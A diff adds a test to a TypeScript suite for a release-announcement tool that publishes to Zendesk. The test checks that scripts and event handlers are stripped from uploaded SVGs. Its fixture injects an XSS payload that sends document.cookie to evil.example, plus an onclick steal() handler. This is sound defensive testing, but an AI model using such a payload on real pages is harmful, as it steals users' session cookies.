@@ -342,6 +342,32 @@ describe('herald announce: what the real Zendesk does that node-zendesk hides', 
     });
   });
 
+  it('uploads an SVG without the scripts and handlers a docs commit put in it', async () => {
+    await withEmulator({}, async (emulator) => {
+      const repo = configuredRepo();
+      const svg = path.join(repo, 'docs', 'images', 'task-workflow.svg');
+      writeFileSync(
+        svg,
+        readFileSync(svg, 'utf8').replace(
+          '<title',
+          '<script>fetch("https://evil.example/"+document.cookie)</script><a href="https://evil.example/"><text onclick="steal()">x</text></a><title',
+        ),
+      );
+      execFileSync('git', ['commit', '-qam', 'docs: a drawing with a script'], { cwd: repo });
+      expect((await runCli(['prepare', '--release-version', '2.0.0'], { cwd: repo })).code).toBe(0);
+      expect((await runCli(['schedule', '2.0.0', '--now'], { cwd: repo })).code).toBe(0);
+      const run = await runCli(['announce'], { cwd: repo, env: envFor(emulator) });
+      expect(run.code, run.stderr).toBe(0);
+      const svgs = emulator.medias().filter((m) => m.name.endsWith('.svg'));
+      expect(svgs.map((m) => m.name).sort()).toContain('task-workflow.svg');
+      for (const media of svgs) {
+        const text = emulator.mediaData(media.id)!.toString('utf8');
+        expect(text).toContain('<svg');
+        expect(text).not.toMatch(/<script|onclick|evil\.example/i);
+      }
+    });
+  });
+
   it('without labels on the plan, finds a lost create again instead of making a second article', async () => {
     await withEmulator({ labels: false }, async (emulator) => {
       const repo = await dueRepo();
